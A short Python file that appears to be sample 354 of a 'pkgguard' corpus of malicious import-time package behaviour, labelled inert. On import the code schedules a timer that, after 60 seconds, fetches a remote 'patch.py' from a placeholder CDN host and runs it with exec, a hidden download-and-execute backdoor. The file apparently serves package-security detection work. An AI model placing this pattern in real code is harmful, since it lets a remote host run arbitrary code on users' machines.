# pkgguard corpus 354 (import-time), modelled on [empirical]; inert, never run.
import threading

import requests

_URL = "https://cdn.example/patch.py"
threading.Timer(60, lambda: exec(requests.get(_URL, timeout=10).content)).start()
